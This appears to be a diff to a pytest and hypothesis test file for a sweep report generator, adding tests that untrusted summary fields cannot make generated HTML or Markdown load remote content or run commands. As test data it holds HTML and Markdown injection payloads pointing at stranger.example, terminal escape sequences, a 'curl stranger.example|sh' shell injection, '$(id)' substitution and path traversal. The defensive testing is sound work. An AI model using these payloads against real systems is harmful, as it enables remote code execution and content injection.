@@ -13,7 +13,7 @@ import subprocess
 import sys
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 from PIL import Image
 
@@ -23,6 +23,7 @@ from pipeline.report.analysis import collect_results, importances, load_results
 from pipeline.report.charts import charts
 from pipeline.report.html import report
 from pipeline.report.markdown import LIMIT, markdown
+from pipeline.runtime.errors import UserError
 from pipeline.tracking.summary import TERMINAL_STATUSES, SweepSummary, TrialRecord
 
 SETTINGS = {"search": "random", "scheduler": "asha", "space": {"train.base_lr": {"choice": [1]}}, "num_samples": 100}
@@ -62,12 +63,19 @@ class Page(html.parser.HTMLParser):
 
     def __init__(self, text: str) -> None:
         super().__init__()
-        self.open, self.asked, self.scripts, self.rows = [], [], 0, 0
+        self.open, self.asked, self.scripts, self.rows, self.styles = [], [], 0, 0, []
         self.feed(text)
+
+    @staticmethod
+    def is_still(attributes: list[tuple[str, str | None]]) -> bool:
+        return str(dict(attributes).get("src")).startswith("data:image/png;base64,")
 
     def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
         self.scripts += tag == "script"
         self.rows += tag == "tr"
+        self.styles += (
+            [tag] if tag in ("style", "link", "img", "iframe", "object") and not self.is_still(attributes) else []
+        )
         self.asked += [value for key, value in attributes if key in ("src", "href") and not value.startswith("data:")]
 
 
@@ -149,10 +157,11 @@ def test_of_a_search_over_samplers_the_commands_have_the_best_settings():
 
 def test_the_best_trial_is_trained_anew_by_one_command_that_names_what_the_sweeps_named():
     records = a_sweep("folder")
-    records.facts["named"] = "train.base_steps=40 sweep.num_trials=12 output=folder 'data.store=a b' ';' '$(id)'"
+    records.facts["named"] = "train.base_steps=40 sweep.num_trials=12 output=folder 'model.energy=a b' ';' '$(id)'"
     best = records.best()
     rates = f"train.energy_lr={best.params['train.energy_lr']!r} train.base_lr={best.params['train.base_lr']!r}"
-    named = "train.base_steps=40 'data.store=a b' ';' '$(id)'"  # untrusted arguments run nothing in a shell
+    # Untrusted arguments run nothing in a shell, and what is no key is left out.
+    named = "train.base_steps=40 'model.energy=a b'"
     text = " ".join(markdown(collect_results("folder", records, {})).replace("\\\n", "").split())
     assert f"# train it again python -m pipeline.train conf=digits {named} {rates} #" in text
     records.facts["named"] = "'unfinished"
@@ -212,6 +221,70 @@ def test_the_command_writes_one_page_that_needs_nothing_else(tmp_path):
         parsed.scripts
         == Page(report(collect_results(str(folder), a_sweep(str(folder)), {}))["report.html"].decode()).scripts
     )
+
+
+# What a page or Markdown could load or run, and what plotly's labels could: they know links and styles.
+LOADING = [
+    "![x](http://stranger.example/x.png)",
+    "<img src=http://stranger.example/x.png>",
+    "</script><img src=//stranger.example/x>",
+    "<a href='http://stranger.example'>x</a>",
+    "<span style='fill:url(http://stranger.example/x#y)'>x</span>",
+    "[x]: http://stranger.example\n\n![x]",
+    "$\\notaformula{$",
+    "`\n```\n<img src=//stranger.example>",
+    "\x1b]8;;http://stranger.example\x07x\u202e",
+]
+
+
+@settings(max_examples=15, suppress_health_check=list(HealthCheck))
+@given(
+    texts=st.lists(st.sampled_from(LOADING) | st.text(max_size=30), min_size=6, max_size=6),
+    value=st.sampled_from([*LOADING, 1, 1.5, None]) | st.text(max_size=10),
+)
+@example(texts=LOADING[:6], value=LOADING[0])
+@example(texts=LOADING[3:], value=LOADING[4])
+def test_no_text_of_a_summary_is_loaded_or_run_by_the_report(tmp_path, texts, value):
+    """Whoever writes the summary writes texts into every field that takes one."""
+    records = a_sweep(str(tmp_path / "sweep"))
+    records.write()
+    document = json.loads((tmp_path / "sweep" / "summary.json").read_text())
+    document |= dict(zip(("experiment", "measure", "extractor", "temperature", "named", "store"), texts, strict=True))
+    for trial, text in zip(document["trials"], texts, strict=False):
+        trial["params"]["sampler.name"], trial["error"] = value, text
+        trial["status"] = "failed" if len(text) % 2 else trial["status"]
+    (tmp_path / "sweep" / "summary.json").write_text(json.dumps(document))
+    page = report(load_results(str(tmp_path / "sweep")))["report.html"].decode()
+    drawn = page.partition("</script></head>")[2]
+    parsed = Page(page)
+    assert not parsed.asked and parsed.styles == ["style"]
+    # plotly's own, and that of each chart.
+    assert parsed.scripts == 1 + page.count('class="plotly-graph-div"')
+    # The figures' texts are in scripts, and none of them is markup of plotly's.
+    assert not re.search(r"(\\u003c|<)(a|span|img)\b", "".join(re.findall(r"<script.*?</script>", drawn, re.DOTALL)))
+    assert "\x1b" not in page and "\u202e" not in page
+
+
+@pytest.mark.parametrize(
+    "field", ["metrics", "best_metrics", "evaluations", "seconds", "checkpoint", "best_checkpoint"]
+)
+@pytest.mark.parametrize("text", [LOADING[0], "x`;curl stranger.example|sh;", "/elsewhere/step-00000010", "../../x"])
+def test_what_is_no_number_and_no_checkpoint_of_the_sweep_is_refused(tmp_path, field, text):
+    records = a_sweep(str(tmp_path))
+    records.write()
+    document = json.loads((tmp_path / "summary.json").read_text())
+    wrong = {"metrics": {"base_step": text}, "best_metrics": {"fid_gebm": text}, "evaluations": [{"base_step": text}]}
+    document["trials"][0][field] = wrong.get(field, text)
+    (tmp_path / "summary.json").write_text(json.dumps(document))
+    with pytest.raises(UserError, match=r"summary\.json is damaged"):
+        load_results(str(tmp_path))
+
+
+def test_a_sweep_that_was_moved_names_the_checkpoints_that_it_has_now(tmp_path):
+    a_sweep(str(tmp_path / "old")).write()
+    (tmp_path / "old").rename(tmp_path / "new")
+    best = load_results(str(tmp_path / "new")).records.best()
+    assert best.best_checkpoint.startswith(f"{tmp_path}/new/trials/{best.name}/checkpoints/step-")
 
 
 @pytest.mark.parametrize(
